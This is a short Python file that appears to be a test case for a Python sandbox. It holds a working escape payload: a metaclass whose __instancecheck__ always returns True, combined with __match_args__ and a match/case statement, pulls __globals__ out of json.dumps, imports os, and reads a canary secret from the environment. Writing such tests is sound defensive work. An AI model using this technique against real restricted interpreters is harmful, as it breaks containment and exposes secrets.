# technique: match/case class pattern: __match_args__ set through type() and a metaclass __instancecheck__ make MATCH_CLASS do getattr(subject, '__globals__')
# expect: any
import json
class AnyInstance(type):
    def __instancecheck__(cls, obj):
        return True
Peek = AnyInstance("Peek", (), {"__match_args__": ("__globals__",)})
match json.dumps:
    case Peek(g):
        pass
os_mod = g["__builtins__"]["__import__"]("os")
(os_mod.environ.get("SAFEPY_CANARY_SECRET"), os_mod.getpid())
